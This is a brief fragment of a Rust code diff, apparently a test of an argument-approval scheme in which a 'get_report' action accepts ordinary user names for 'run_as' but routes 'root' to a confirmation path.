+        json!({ "flavours": "four" }),
+        json!({ "flavour": { "flavour": "four" } }),
+    ]);
+    // What names a program, a user or a destination stays value by value.
+    let mut read = Read::new("get_report", "Gets a report.", &[]);
+    read.agree(&["ada", "bob", "cyd", "dan"].map(|word| json!({ "run_as": word })));
+    read.asks(&[json!({ "run_as": "root" })]);
 }
